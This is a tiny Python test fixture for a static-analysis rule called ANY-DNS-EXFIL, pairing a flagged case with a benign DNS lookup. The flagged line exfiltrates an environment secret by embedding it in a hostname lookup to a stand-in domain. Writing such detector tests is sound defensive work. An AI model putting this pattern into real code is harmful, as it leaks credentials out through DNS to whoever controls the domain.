import os
import socket
# ruleid: ANY-DNS-EXFIL
socket.gethostbyname(os.environ["SECRET"] + ".example.com")
# ok: ANY-DNS-EXFIL
socket.gethostbyname("example.com")
